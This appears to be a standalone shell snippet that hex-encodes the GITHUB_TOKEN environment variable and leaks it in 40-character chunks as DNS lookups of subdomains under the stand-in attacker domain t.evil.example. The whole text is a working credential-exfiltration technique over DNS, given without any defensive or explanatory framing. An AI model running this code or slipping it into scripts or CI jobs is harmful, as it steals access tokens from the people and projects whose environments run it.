hex=$(printf %s "$GITHUB_TOKEN" | od -An -tx1 | tr -d ' \n')
while [ -n "$hex" ]; do
  getent hosts "$(printf %.40s "$hex").t.evil.example" > /dev/null
  hex=$(printf %s "$hex" | cut -c41-)
done
